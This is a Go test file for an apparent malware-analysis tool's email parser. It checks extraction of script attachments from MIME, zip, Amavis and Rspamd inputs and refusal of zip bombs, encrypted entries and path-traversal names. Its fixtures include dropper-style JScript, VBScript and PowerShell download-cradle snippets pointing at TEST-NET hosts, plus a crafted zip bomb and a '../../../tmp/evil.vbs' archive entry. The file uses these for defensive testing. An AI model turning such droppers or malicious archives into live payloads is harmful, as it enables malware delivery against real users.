package mail

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"mime/quotedprintable"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/automaldesc/automaldesc/analysis"
)

// Inert fixtures: TEST-NET addresses and .invalid/.example domains only.
const (
	jsDropper = "var sh = new ActiveXObject(\"WScript.Shell\");\nvar u = \"http://198.51.100.7/invoice.dat\";\nsh.Run(\"cmd /c echo \" + u, 0, false);\n"
	psCradle  = "$wc = New-Object System.Net.WebClient\n$data = $wc.DownloadString('http://192.0.2.44/stage.txt')\nWrite-Output $data.Length\nGet-ChildItem -Path $env:TEMP | Select-Object -First 3\n"
	vbsRunner = "Set sh = CreateObject(\"WScript.Shell\")\nDim target\ntarget = \"http://203.0.113.9/report.invalid\"\nsh.Run \"cmd /c echo \" & target, 0, False\n"
	batLine   = "@echo off\r\nset T=%TEMP%\\upd\r\nif not exist %T% mkdir %T%\r\necho 198.51.100.3 > %T%\\host.txt\r\n"
	prose     = "Dear team,\n\nplease find the quarterly figures attached. The meeting moves to Thursday.\n\nKind regards,\nAccounts\n"
)

func b64(s string) string {
	enc := base64.StdEncoding.EncodeToString([]byte(s))
	var b strings.Builder
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc)
	return b.String()
}

func qp(s string) string {
	var b bytes.Buffer
	w := quotedprintable.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

type zentry struct {
	name   string
	body   []byte
	method uint16
	flags  uint16 // raw entries only
	raw    bool   // written with CreateRaw: body is stored as is, sizes as declared
	size   uint64 // declared uncompressed size (raw entries)
}

func mkzip(t testing.TB, entries ...zentry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		if e.raw {
			w, err := zw.CreateRaw(&zip.FileHeader{Name: e.name, Method: e.method, Flags: e.flags,
				CompressedSize64: uint64(len(e.body)), UncompressedSize64: e.size, CRC32: 0xdeadbeef})
			if err != nil {
				t.Fatal(err)
			}
			w.Write(e.body)
			continue
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: max(e.method, zip.Deflate)})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(e.body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func deflate(b []byte) []byte {
	var out bytes.Buffer
	w, _ := flate.NewWriter(&out, flate.BestCompression)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// attachment is one MIME part of a multipart/mixed message.
func attachment(ctype, disp, cte, body string) string {
	h := "Content-Type: " + ctype + "\r\n"
	if disp != "" {
		h += "Content-Disposition: " + disp + "\r\n"
	}
	if cte != "" {
		h += "Content-Transfer-Encoding: " + cte + "\r\n"
	}
	return h + "\r\n" + body
}

func multipart(boundary string, headers string, parts ...string) string {
	var b strings.Builder
	b.WriteString(headers)
	b.WriteString("MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"" + boundary + "\"\r\n\r\nThis is a multi-part message.\r\n")
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n" + p + "\r\n")
	}
	b.WriteString("--" + boundary + "--\r\n")
	return b.String()
}

const stdHeaders = "Received: from mx.example (mx.example [192.0.2.1])\r\n\tby gw.example (Postfix) with ESMTPS id 4XyZ12AbCd\r\n\tfor <victim@corp.example>; Tue, 2 Jan 2024 10:00:00 +0000\r\n" +
	"Message-ID: <abc123@sender.example>\r\n" +
	"From: \"Billing Dept\" <billing@sender.example>\r\n" +
	"To: victim@corp.example, Other <other@corp.example>\r\n" +
	"Subject: =?UTF-8?B?UmVjaG51bmcgw5xiZXJmw6RsbGln?=\r\n" +
	"Date: Tue, 2 Jan 2024 11:00:00 +0100\r\n"

func parse(t *testing.T, raw string, lim Limits) *Message {
	t.Helper()
	m, err := Parse(strings.NewReader(raw), lim)
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return m
}

// got is the comparable view of a part.
type got struct {
	Path, Name, Attachment, ArchivePath, Data string
	Skipped                                   bool
}

func view(m *Message) []got {
	var out []got
	for _, p := range m.Parts {
		out = append(out, got{p.Path, p.Name, p.Attachment, p.ArchivePath, string(p.Data), p.Skipped != ""})
	}
	return out
}

func TestParseHeaders(t *testing.T) {
	m := parse(t, multipart("b1", stdHeaders, attachment("text/plain", "", "", prose)), Limits{})
	want := analysis.EmailInfo{
		MessageID: "abc123@sender.example",
		From:      "Billing Dept <billing@sender.example>",
		To:        []string{"victim@corp.example", "Other <other@corp.example>"},
		Subject:   "Rechnung Überfällig",
		Date:      "2024-01-02T10:00:00Z",
		QueueID:   "4XyZ12AbCd",
	}
	if d := cmp.Diff(want, m.Email); d != "" {
		t.Errorf("email metadata (-want +got):\n%s", d)
	}
	if len(m.Parts) != 0 {
		t.Errorf("got %d parts from a body-only message, want 0", len(m.Parts))
	}
}

func TestParseCharsetHeaders(t *testing.T) {
	raw := "From: =?windows-1251?B?z/Du4uXw6uA=?= <a@sender.example>\r\nSubject: =?ISO-8859-1?Q?R=E9sum=E9?=\r\nX-Rspamd-Queue-Id: 7F3A21\r\n\r\nbody\r\n"
	m := parse(t, raw, Limits{})
	if m.Email.From != "Проверка <a@sender.example>" {
		t.Errorf("from: got %q, want the windows-1251 name decoded", m.Email.From)
	}
	if m.Email.Subject != "Résumé" {
		t.Errorf("subject: got %q, want %q", m.Email.Subject, "Résumé")
	}
	if m.Email.QueueID != "7F3A21" {
		t.Errorf("queue id: got %q, want the X-Rspamd-Queue-Id", m.Email.QueueID)
	}
}

func TestParseAttachments(t *testing.T) {
	zipVBS := mkzip(t, zentry{name: "docs/readme.txt", body: []byte(prose)}, zentry{name: "docs/run.vbs", body: []byte(vbsRunner)})
	inner := zentry{name: "inner.zip", body: mkzip(t, zentry{name: "deep.js", body: []byte(jsDropper)})}
	nested := mkzip(t, inner)
	third := mkzip(t, zentry{name: "l2.zip", body: mkzip(t, zentry{name: "l3.zip", body: mkzip(t, zentry{name: "x.js", body: []byte(jsDropper)})})})
	fwd := "From: a@sender.example\r\nSubject: fwd\r\n" + strings.TrimPrefix(multipart("inner", "",
		attachment("text/plain", "", "", "see attached"),
		attachment("application/octet-stream", "attachment; filename=\"setup.bat\"", "quoted-printable", qp(batLine))), "")
	tests := []struct {
		name string
		part string
		want []got
	}{
		{"js attachment", attachment("application/javascript; name=\"invoice.js\"", "attachment; filename=\"invoice.js\"", "base64", b64(jsDropper)),
			[]got{{"2", "invoice.js", "invoice.js", "", jsDropper, false}}},
		{"base64 ps1", attachment("application/octet-stream", "attachment; filename=update.ps1", "base64", b64(psCradle)),
			[]got{{"2", "update.ps1", "update.ps1", "", psCradle, false}}},
		{"txt that is powershell", attachment("text/plain; charset=us-ascii", "attachment; filename=\"notes.txt\"", "7bit", psCradle),
			[]got{{"2", "notes.txt", "notes.txt", "", psCradle, false}}},
		{"prose txt ignored", attachment("text/plain", "attachment; filename=\"notes.txt\"", "", prose), nil},
		{"png ignored", attachment("image/png", "attachment; filename=\"logo.png\"", "base64", b64("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")), nil},
		{"zip with vbs", attachment("application/zip", "attachment; filename=\"docs.zip\"", "base64", b64(string(zipVBS))),
			[]got{{"2!docs/run.vbs", "run.vbs", "docs.zip", "docs/run.vbs", vbsRunner, false}}},
		{"zip in zip", attachment("application/zip", "attachment; filename=\"outer.zip\"", "base64", b64(string(nested))),
			[]got{{"2!inner.zip!deep.js", "deep.js", "outer.zip", "inner.zip/deep.js", jsDropper, false}}},
		{"zip too deep", attachment("application/zip", "attachment; filename=\"l1.zip\"", "base64", b64(string(third))),
			[]got{{"2!l2.zip!l3.zip", "l3.zip", "l1.zip", "l2.zip/l3.zip", "", true}}},
		{"nested rfc822", attachment("message/rfc822", "attachment; filename=\"fwd.eml\"", "", fwd),
			[]got{{"2.2", "setup.bat", "setup.bat", "", batLine, false}}},
		{"rfc2231 utf-8", attachment("application/octet-stream", "attachment; filename*=UTF-8''r%C3%A9sum%C3%A9.js", "base64", b64(jsDropper)),
			[]got{{"2", "résumé.js", "résumé.js", "", jsDropper, false}}},
		{"rfc2231 latin-1 continuation", attachment("application/octet-stream", "attachment; filename*0*=iso-8859-1''%E9t%E9; filename*1=\".vbs\"", "base64", b64(vbsRunner)),
			[]got{{"2", "été.vbs", "été.vbs", "", vbsRunner, false}}},
		{"rfc2047 name", attachment("application/octet-stream; name=\"=?UTF-8?B?w7xiZXIuanM=?=\"", "attachment", "base64", b64(jsDropper)),
			[]got{{"2", "über.js", "über.js", "", jsDropper, false}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			raw := multipart("b-"+strings.ReplaceAll(tc.name, " ", ""), stdHeaders, attachment("text/plain", "", "", prose), tc.part)
			m := parse(t, raw, Limits{})
			if d := cmp.Diff(tc.want, view(m)); d != "" {
				t.Errorf("parts (-want +got):\n%s\nproblems: %v", d, m.Problems)
			}
			for _, p := range m.Parts {
				if p.Skipped == "" && p.Why == "" {
					t.Errorf("part %s: no reason why it is a script", p.Path)
				}
			}
		})
	}
}

func TestParseRefusals(t *testing.T) {
	zeros := make([]byte, 5<<20)
	bomb := mkzip(t, zentry{name: "filler.js", body: zeros})
	liar := mkzip(t, zentry{name: "small.js", raw: true, method: zip.Deflate, body: deflate(zeros), size: 100})
	var many []zentry
	for i := range 1200 {
		many = append(many, zentry{name: fmt.Sprintf("f%04d.dat", i), body: []byte("x")})
	}
	many = append(many, zentry{name: "late.js", body: []byte(jsDropper)})
	manyZip := mkzip(t, many...)
	encrypted := mkzip(t, zentry{name: "secret.js", raw: true, method: zip.Store, flags: 0x1, body: []byte("0123456789ab"), size: 12},
		zentry{name: "open.js", body: []byte(jsDropper)})
	traversal := mkzip(t, zentry{name: "../../../tmp/evil.vbs", body: []byte(vbsRunner)})
	big := strings.Repeat("Write-Output 'padding line for size'\n", 40000) // ~1.5 MB
	type want struct {
		path    string
		skipped string // substring of the reason; "" = extracted
	}
	tests := []struct {
		name  string
		file  string
		data  []byte
		lim   Limits
		want  []want
		extra func(t *testing.T, m *Message)
	}{
		{"high ratio bomb", "bomb.zip", bomb, Limits{}, []want{{"1!filler.js", "zip bomb"}}, nil},
		{"declared size lies", "liar.zip", liar, Limits{}, []want{{"1!small.js", "damaged"}}, nil},
		{"many entries", "many.zip", manyZip, Limits{}, []want{{"1", "holds 1201 entries; only the first 1000"}}, nil},
		{"encrypted entry", "enc.zip", encrypted, Limits{}, []want{{"1!secret.js", "encrypted"}, {"1!open.js", ""}}, nil},
		{"path traversal name", "trav.zip", traversal, Limits{}, []want{{"1!../../../tmp/evil.vbs", ""}}, func(t *testing.T, m *Message) {
			p := m.Parts[0]
			if p.Name != "evil.vbs" || !strings.Contains(p.Note, "path traversal") {
				t.Errorf("got name %q note %q, want base name evil.vbs and a path traversal note", p.Name, p.Note)
			}
			if len(m.Problems) == 0 || !strings.Contains(m.Problems[0], "path traversal") {
				t.Errorf("got problems %v, want the traversal listed", m.Problems)
			}
		}},
		{"script too large", "big.ps1", []byte(big), Limits{MaxAttachmentSize: 1 << 20}, []want{{"1", "larger than 1048576"}}, nil},
		{"archive budget", "bomb.zip", mkzip(t, zentry{name: "a.js", body: []byte(big)}, zentry{name: "b.js", body: []byte(big)}),
			Limits{MaxArchiveBytes: 2 << 20, MaxRatio: 1000}, []want{{"1!a.js", ""}, {"1!b.js", "budget"}}, nil},
		{"corrupt zip", "broken.zip", append([]byte("PK\x03\x04"), bytes.Repeat([]byte{0}, 64)...), Limits{}, []want{{"1", "archive unreadable"}}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			raw := multipart("rf", stdHeaders, attachment("application/octet-stream", "attachment; filename=\""+tc.file+"\"", "base64", b64(string(tc.data))))
			m := parse(t, raw, tc.lim)
			var gotW []want
			for _, p := range m.Parts {
				w := want{p.Path, ""}
				if p.Skipped != "" {
					w.skipped = p.Skipped
					if p.Data != nil {
						t.Errorf("part %s: refused but carries data", p.Path)
					}
				}
				gotW = append(gotW, w)
			}
			if len(gotW) != len(tc.want) {
				t.Fatalf("got parts %+v, want %+v (problems %v)", gotW, tc.want, m.Problems)
			}
			for i := range gotW {
				if gotW[i].path != tc.want[i].path || (tc.want[i].skipped == "") != (gotW[i].skipped == "") || !strings.Contains(gotW[i].skipped, tc.want[i].skipped) {
					t.Errorf("part %d: got %+v, want %+v", i, gotW[i], tc.want[i])
				}
			}
			if tc.extra != nil {
				tc.extra(t, m)
			}
			if !strings.Contains(m.Summary(), "refused") {
				t.Errorf("summary %q does not count refusals", m.Summary())
			}
		})
	}
}

func TestParseMalformed(t *testing.T) {
	tests := []struct {
		name        string
		raw         string
		wantParts   int
		wantProblem string
	}{
		{"no boundary", "Content-Type: multipart/mixed\r\n\r\nhello\r\n", 0, "without a boundary"},
		{"unterminated multipart", "Content-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=a.js\r\n\r\n" + jsDropper, 1, ""},
		{"bad base64", multipart("bb", "", attachment("application/octet-stream", "attachment; filename=x.ps1", "base64", "!!!notbase64###")), 1, "decode"},
		{"unknown encoding", multipart("ue", "", attachment("application/octet-stream", "attachment; filename=x.js", "x-uuencode", jsDropper)), 1, "x-uuencode"},
		{"broken content-type params", multipart("bp", "", attachment("application/octet-stream; name=\"a.js\"; name=\"b.js\"", "", "", jsDropper)), 1, ""},
		{"header only", "Subject: nothing", 0, ""},
		{"binary garbage", "\x00\x01\x02\xff\xfe" + strings.Repeat("\x00", 100), 0, ""},
		{"deep nesting", strings.Repeat("Content-Type: message/rfc822\r\n\r\n", 30) + "x", 1, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m := parse(t, tc.raw, Limits{})
			if len(m.Parts) != tc.wantParts {
				t.Errorf("got %d parts %+v, want %d (problems %v)", len(m.Parts), view(m), tc.wantParts, m.Problems)
			}
			if tc.wantProblem != "" && !strings.Contains(strings.Join(m.Problems, "|"), tc.wantProblem) {
				t.Errorf("got problems %v, want one mentioning %q", m.Problems, tc.wantProblem)
			}
		})
	}
}

func TestParseLimits(t *testing.T) {
	t.Run("message size", func(t *testing.T) {
		raw := multipart("ms", stdHeaders, attachment("application/octet-stream", "attachment; filename=a.js", "", jsDropper+strings.Repeat("//pad\n", 2000)))
		m := parse(t, raw, Limits{MaxMessageSize: 1024})
		if !strings.Contains(strings.Join(m.Problems, "|"), "larger than 1024") {
			t.Errorf("got problems %v, want the size limit reported", m.Problems)
		}
	})
	t.Run("parts", func(t *testing.T) {
		var parts []string
		for i := range 20 {
			parts = append(parts, attachment("application/octet-stream", fmt.Sprintf("attachment; filename=a%d.js", i), "", jsDropper))
		}
		m := parse(t, multipart("pp", "", parts...), Limits{MaxParts: 5})
		if m.Extracted() != 4 || len(m.Parts) != 5 || !strings.Contains(m.Parts[4].Skipped, "more than 5 MIME parts") {
			t.Errorf("got %d parts (%d extracted): %+v, want 4 extracted and one refusal", len(m.Parts), m.Extracted(), view(m))
		}
	})
	t.Run("samples", func(t *testing.T) {
		var parts []string
		for i := range 10 {
			parts = append(parts, attachment("application/octet-stream", fmt.Sprintf("attachment; filename=a%d.js", i), "", jsDropper))
		}
		m := parse(t, multipart("sp", "", parts...), Limits{MaxSamples: 3})
		if len(m.Parts) != 4 || m.Parts[3].Skipped == "" {
			t.Errorf("got %+v, want 3 extracted and one refusal", view(m))
		}
	})
}

func TestSampleAndIDs(t *testing.T) {
	raw := multipart("sa", stdHeaders, attachment("application/zip", "attachment; filename=\"d.zip\"", "base64",
		b64(string(mkzip(t, zentry{name: "x/run.vbs", body: []byte(vbsRunner)})))))
	m := parse(t, raw, Limits{})
	if len(m.Parts) != 1 {
		t.Fatalf("got %d parts, want 1", len(m.Parts))
	}
	s := m.Sample(m.Parts[0], "amavis", "Sig.Test")
	if s.Email == nil || s.Email.Attachment != "d.zip" || s.Email.ArchivePath != "x/run.vbs" || s.Email.Part != "1" || s.Email.QueueID != "4XyZ12AbCd" {
		t.Errorf("got sample email %+v, want attachment d.zip, archive path x/run.vbs, part 1 and the queue id", s.Email)
	}
	if s.Name != "run.vbs" || string(s.Data) != vbsRunner || s.Source != "amavis" {
		t.Errorf("got sample name %q source %q, want run.vbs from amavis with the entry's bytes", s.Name, s.Source)
	}
	s.Email.To[0] = "changed"
	if m.Email.To[0] == "changed" {
		t.Error("Sample shares the To slice with the message")
	}
	a, b := PartRecordID("item-1", "2!x/run.vbs"), PartRecordID("item-1", "2!x/run.vbs")
	if a != b || a == PartRecordID("item-2", "2!x/run.vbs") || a == PartRecordID("item-1", "3") {
		t.Errorf("PartRecordID: got %s and %s, want equal for equal input and different otherwise", a, b)
	}
}

func gz(t *testing.T, s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

func TestReadAmavis(t *testing.T) {
	msg := "From billing@sender.example  Tue Jan  2 10:00:01 2024\n" +
		"Return-Path: <bounce@sender.example>\nX-Envelope-From: <billing@sender.example>\nX-Envelope-To: <victim@corp.example>,\n <cfo@corp.example>\n" +
		"X-Quarantine-ID: <a1B2c3D4e5>\nX-Amavis-Alert: INFECTED, message contains virus: Test.Sig\n" +
		strings.ReplaceAll(multipart("am", stdHeaders, attachment("application/octet-stream", "attachment; filename=pay.js", "base64", b64(jsDropper))), "\r\n", "\n")
	noID := strings.Replace(msg, "X-Quarantine-ID: <a1B2c3D4e5>\n", "", 1)
	tests := []struct {
		name, file string
		data       []byte
		wantQID    string
	}{
		{"plain", "virus-a1B2c3D4e5", []byte(msg), "a1B2c3D4e5"},
		{"gzipped", "spam-a1B2c3D4e5.gz", gz(t, msg), "a1B2c3D4e5"},
		{"id from file name", "banned-Zz9yX8", []byte(noID), "Zz9yX8"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m, err := ReadAmavis(bytes.NewReader(tc.data), tc.file, Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if m.Email.QuarantineID != tc.wantQID {
				t.Errorf("quarantine id: got %q, want %q", m.Email.QuarantineID, tc.wantQID)
			}
			if m.Email.EnvelopeFrom != "billing@sender.example" || !cmp.Equal(m.Email.EnvelopeTo, []string{"victim@corp.example", "cfo@corp.example"}) {
				t.Errorf("envelope: got %q -> %q", m.Email.EnvelopeFrom, m.Email.EnvelopeTo)
			}
			if len(m.Parts) != 1 || string(m.Parts[0].Data) != jsDropper || m.Parts[0].Name != "pay.js" {
				t.Errorf("got parts %+v, want pay.js", view(m))
			}
		})
	}
	t.Run("gzip bomb", func(t *testing.T) {
		huge := "Subject: x\n\n" + strings.Repeat("A", 8<<20)
		m, err := ReadAmavis(bytes.NewReader(gz(t, huge)), "spam-x.gz", Limits{MaxMessageSize: 1 << 20})
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(strings.Join(m.Problems, "|"), "larger than 1048576") {
			t.Errorf("got problems %v, want the decompressed size limit reported", m.Problems)
		}
	})
	t.Run("broken gzip", func(t *testing.T) {
		if _, err := ReadAmavis(bytes.NewReader([]byte{0x1f, 0x8b, 0x08, 0x00, 0x01}), "virus-x.gz", Limits{}); err == nil {
			t.Error("got no error for a truncated gzip file")
		}
	})
}

func TestApplyRspamd(t *testing.T) {
	m := parse(t, "Subject: \r\nFrom: a@sender.example\r\n\r\nx", Limits{})
	h := map[string]string{
		RspamdQueueID: "4AbCdEf", RspamdFrom: "bounce@sender.example", RspamdRcpt: `["victim@corp.example","cfo@corp.example"]`,
		RspamdSubject: "=?UTF-8?Q?Zahlung_f=C3=A4llig?=",
	}
	m.ApplyRspamd(func(k string) string { return h[k] })
	want := analysis.EmailInfo{From: "a@sender.example", Subject: "Zahlung fällig", QueueID: "4AbCdEf",
		EnvelopeFrom: "bounce@sender.example", EnvelopeTo: []string{"victim@corp.example", "cfo@corp.example"}}
	if d := cmp.Diff(want, m.Email); d != "" {
		t.Errorf("metadata (-want +got):\n%s", d)
	}
	if got := RspamdSymbolNames(`[{"name":"R_SPF_FAIL","score":1.0},{"name":"MIME_BAD_EXTENSION","score":3.5}]`); !cmp.Equal(got, []string{"R_SPF_FAIL", "MIME_BAD_EXTENSION"}) {
		t.Errorf("symbols: got %v", got)
	}
}

// TestFixtures parses the .eml files under testdata (also the fuzz seeds).
func TestFixtures(t *testing.T) {
	want := map[string]int{"multipart-js.eml": 1, "nested-rfc822.eml": 1, "rfc2231.eml": 2}
	for name, n := range want {
		t.Run(name, func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join("testdata", name))
			if err != nil {
				t.Fatal(err)
			}
			m, err := Parse(bytes.NewReader(b), Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if m.Extracted() != n {
				t.Errorf("got %d extracted %+v, want %d (problems %v)", m.Extracted(), view(m), n, m.Problems)
			}
		})
	}
}

func FuzzParse(f *testing.F) {
	for _, n := range []string{"multipart-js.eml", "nested-rfc822.eml", "rfc2231.eml"} {
		if b, err := os.ReadFile(filepath.Join("testdata", n)); err == nil {
			f.Add(b)
		}
	}
	f.Add([]byte(multipart("fz", "", attachment("application/zip", "attachment; filename=a.zip", "base64",
		b64(string(mkzip(f, zentry{name: "a.js", body: []byte(jsDropper)})))))))
	lim := Limits{MaxMessageSize: 1 << 20, MaxAttachmentSize: 256 << 10, MaxArchiveBytes: 1 << 20}
	f.Fuzz(func(t *testing.T, b []byte) {
		m, err := Parse(bytes.NewReader(b), lim)
		if err != nil {
			t.Fatalf("Parse of an in-memory reader failed: %v", err)
		}
		for _, p := range m.Parts {
			if (p.Skipped == "") == (p.Data == nil) {
				t.Fatalf("part %s: skipped=%q with data=%v", p.Path, p.Skipped, p.Data != nil)
			}
			if int64(len(p.Data)) > lim.MaxAttachmentSize {
				t.Fatalf("part %s: %d bytes over the limit", p.Path, len(p.Data))
			}
		}
	})
}

func BenchmarkParse(b *testing.B) {
	raw := []byte(multipart("bn", stdHeaders, attachment("text/plain", "", "", prose),
		attachment("application/octet-stream", "attachment; filename=a.ps1", "base64", b64(strings.Repeat(psCradle, 25))),
		attachment("application/zip", "attachment; filename=d.zip", "base64", b64(string(mkzip(b, zentry{name: "r.vbs", body: []byte(vbsRunner)}))))))
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Parse(bytes.NewReader(raw), Limits{}); err != nil {
			b.Fatal(err)
		}
	}
}
